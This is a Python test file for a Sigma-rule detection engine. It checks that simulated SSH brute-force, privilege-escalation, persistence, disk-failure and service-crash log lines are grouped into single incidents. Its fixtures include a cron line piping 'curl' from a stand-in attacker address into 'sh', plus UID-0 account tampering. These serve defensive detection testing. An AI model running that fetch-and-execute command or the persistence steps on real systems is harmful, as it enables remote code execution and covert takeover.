"""Several bundled rules see one attack, or one broken part: people get one incident."""

from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path

import pytest
from support.fakes import FakeClock
from support.ssh_noise import botnet
from support.store import open_store, sqlite_url

from rules.engine import Engine
from rules.event import Batch, Decision, Starts
from rules.finding import Finding
from rules.settings import EngineSettings
from rules.sigma.files import BUNDLED, read_rule_files
from rules.sigma.load import load
from rules.sigma.model import RuleSet
from store.database import Store
from store.incident import Incident
from store.repository.grouping import findings
from store.repository.incident import incidents

START = datetime(2026, 3, 1, tzinfo=UTC)
NEXT_DAY = START + timedelta(days=1)
FOLDERS = {"ssh", "sudo", "pam", "accounts", "persistence", "system"}
BAD = "203.0.113.7"


@cache
def rules() -> RuleSet:
    """The bundled rules on hosts."""
    return load([file for file in read_rule_files([BUNDLED]) if Path(file[0]).parent.name in FOLDERS])


@pytest.fixture
def sqlite_url_of_copy(sqlite_template: Path, tmp_path: Path) -> str:
    """An empty store; which database it is makes no difference to what is found."""
    url = sqlite_url(tmp_path)
    Path(url.removeprefix("sqlite:///").partition("?")[0]).write_bytes(sqlite_template.read_bytes())
    return url


def batches(lines: Iterable[str], size: int = 500) -> Iterator[Batch]:
    whole = sorted(lines, key=lambda line: line[:15])
    offset = 0
    for first in range(0, len(whole), size):
        data = "".join(f"{line}\n" for line in whole[first : first + size]).encode()
        yield Batch(
            source="auth",
            stream="auth",
            origin="auth.log",
            data=data,
            starts=Starts(line=first + 1, offset=offset),
            received_at=NEXT_DAY,
            before=b"",
            after=b"",
        )
        offset += len(data)


def found(lines: Iterable[str], size: int = 500) -> Iterator[Finding]:
    engine = Engine(EngineSettings(as_of=NEXT_DAY), rules())
    for batch in batches(lines, size):
        yield from engine.feed(batch).findings


async def records(url: str, folder: Path, lines: Iterable[str], size: int = 500) -> list[Incident]:
    """What the store makes of the lines."""
    async with open_store(url, FakeClock(NEXT_DAY), folder) as store:
        told = list(found(lines, size))
        await _take(store, told)
        return await store.read(lambda connection: incidents.list_of(connection, limit=200))


async def _take(store: Store, told: list[Finding]) -> None:
    await store.write(lambda tx: [findings.take(tx, one) for one in told])


def asked(found: Iterable[Incident]) -> list[Incident]:
    return [one for one in found if one.decision is Decision.INVESTIGATE]


def line(at: float, text: str, host: str = "web1") -> str:
    """*text*, written so many minutes after the day began."""
    time = START + timedelta(minutes=at)
    return f"{time:%b} {time.day:2d} {time:%H:%M:%S} {host} {text}"


def failed(at: float, user: str, source: str = BAD) -> str:
    return line(at, f"sshd[812]: Failed password for {user} from {source} port 40022 ssh2")


def let_in(at: float, user: str, source: str = BAD) -> str:
    return line(at, f"sshd[812]: Accepted password for {user} from {source} port 40100 ssh2")


NAMES = ("root", "bo", "git", "ann", "www", "ftp", "pi", "backup", "dev", "mail", "test", "web")
SEGFAULT = "segfault at 0 ip 00 sp 00 error 4 in nginx[55d0c09d0000+100000]"
SECTOR = "blk_update_request: I/O error, dev sda, sector 1234 op 0x0:(READ)"

ATTACKS = {
    "fast, under many names, then in, then root": [
        *(failed(600 + number / 4, name) for number, name in enumerate(NAMES * 2)),
        let_in(607, "bo"),
        let_in(612, "root"),
        line(615, "sudo:  bo : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
        *(line(616 + number, "su[9]: FAILED SU (to root) bo on pts/0") for number in range(5)),
        line(622, "su[9]: (to root) bo on pts/0"),
        line(630, "CRON[9]: (bo) CMD (curl -s http://203.0.113.7/x | sh)"),
    ],
    "one guess an hour under one name, then in": [
        *(failed(60 * hour, "bo") for hour in range(12)),
        *(failed(60 * hour + 1, name) for hour, name in enumerate(NAMES)),
        let_in(745, "bo"),
    ],
    "shared by many addresses, then in": [
        *(failed(600 + number, "bo", f"203.0.113.{number + 10}") for number in range(20)),
        let_in(622, "bo", "203.0.113.99"),
        let_in(630, "root", "203.0.113.99"),
    ],
    "from inside, then in": [
        *(failed(600 + number / 4, "bo", "10.0.0.5") for number in range(30)),
        let_in(610, "bo", "10.0.0.5"),
    ],
    "an account that is to stay": [
        line(600, "useradd[9]: new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash"),
        line(601, "usermod[9]: add 'eve' to group 'sudo'"),
        line(602, "usermod[9]: change user 'eve' UID from '1002' to '0'"),
        line(603, "CRON[9]: (eve) CMD (/dev/shm/.x/run)"),
    ],
    "a disk that dies": [
        *(line(600 + number, f"kernel: [100.{number:06d}] {SECTOR}") for number in range(8)),
        line(603, "kernel: [110.000001] EXT4-fs error (device sda1): ext4_lookup:1: inode #2: comm x: deleted inode"),
        line(604, "kernel: [110.000002] EXT4-fs (sda1): Remounting filesystem read-only"),
        line(620, "smartd[9]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors"),
        line(650, "smartd[9]: Device: /dev/sda [SAT], 9 Currently unreadable (pending) sectors"),
        line(660, "mdadm[9]: DegradedArray event detected on md device /dev/md0"),
    ],
    "a service that crashes": [
        *(line(600 + number / 10, f"kernel: [100.{number:06d}] nginx[{number}]: {SEGFAULT}") for number in range(12)),
        *(line(600 + number / 10, "systemd[1]: nginx.service: Failed with result 'core-dump'.") for number in range(6)),
        line(601, "systemd[1]: nginx.service: Start request repeated too quickly."),
        line(601, "systemd[1]: Failed to start nginx.service - The web server."),
    ],
}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_one_attack(attack: str, sqlite_url_of_copy: str, tmp_path: Path) -> None:
    """Whatever rules see it, people are asked about one incident."""
    for_people = asked(await records(sqlite_url_of_copy, tmp_path, ATTACKS[attack]))
    assert [one.title for one in for_people] == [for_people[0].title]


async def test_two_attacks(sqlite_url_of_copy: str, tmp_path: Path) -> None:
    """Two attackers who get in under different names are two incidents, on one host and in one hour."""
    lines = [
        *(failed(600 + number / 4, "bo") for number in range(20)),
        let_in(606, "bo"),
        *(failed(600 + number / 4, "ann", "198.51.100.9") for number in range(20)),
        let_in(606, "ann", "198.51.100.9"),
    ]
    assert len(asked(await records(sqlite_url_of_copy, tmp_path, lines))) == 2


async def test_a_day_of_a_botnet(sqlite_url_of_copy: str, tmp_path: Path) -> None:
    """Hundreds of addresses that share the work, slow guessers, scanners and people: nobody is asked for anything.

    What is observed is one record per rule and host.
    """
    lines = botnet(7)
    assert len(lines) > 3000
    made = await records(sqlite_url_of_copy, tmp_path, lines, 4000)
    assert [one.title for one in asked(made)] == []
    assert {"SSH guessing from many addresses", "SSH slow brute force", "SSH probing"} <= {one.title for one in made}
    assert len(made) == len({one.title for one in made}) <= 8
